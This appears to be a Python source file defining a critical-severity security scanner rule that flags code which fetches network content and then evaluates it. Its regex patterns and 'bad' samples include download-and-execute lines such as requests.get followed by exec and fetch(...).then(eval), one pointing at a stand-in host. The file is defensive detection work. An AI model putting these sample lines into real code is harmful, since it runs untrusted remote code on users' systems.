"""Something is fetched and then evaluated, in one line or a few."""

from __future__ import annotations

from symbi.contracts.scanner import Nearby, Pattern, ScannerRule
from symbi_clawhavoc.rules.eval_with_fetch import CALL, DEFINITION
from symbi_clawhavoc.words import FETCH

GET = (
    r"(?:^|[^\w.])(?:(?:requests|httpx|axios|session|client|http|https|got|superagent)\.(?:get|post|request)|(?:urllib\.request\.)?urlopen"
    r"|fetch|axios|got)\s*\("
)
RUN_IT = rf"(?:{CALL}\s*(?:[A-Za-z_(]|await)|\bnew\s+Function\s*\(\s*[A-Za-z_]|\.then\s*\(\s*(?:window\.)?eval\s*\))"

RULE = ScannerRule(
    id="fetch-with-eval",
    category="original",
    severity="critical",
    message="Fetches something and evaluates it",
    check=(
        Pattern(rf"{FETCH}(?:[^}}]*|.{{0,200}}){CALL}\s*[^)\s]", unless=DEFINITION),
        Pattern(rf"{FETCH}.*\.then\s*\(\s*(?:window\.|globalThis\.)?eval\s*\)"),
        Nearby((GET, RUN_IT), within=8, unless=DEFINITION),
    ),
    bad=(
        "fetch(u).then(r => r.text()).then(t => eval(t))",
        "r = requests.get(u); exec(r.text)",
        "fetch('https://x.example/p.js').then(r => r.text()).then(eval)",
        "r = requests.get(url)\ncode = r.text\nexec(code)",
    ),
    good=(
        "cursor.execute(request.sql)",
        "const m = pattern.exec(req.url); fetch(m[0])",
        "fetch(url); pattern.exec(req)",
        "executor = ThreadPoolExecutor(); requests.get(u)",
    ),
    remediation="Never run what the network answers; ship the code with the skill.",
    references=("https://attack.mitre.org/techniques/T1105/",),
    tags=("download", "execute"),
)
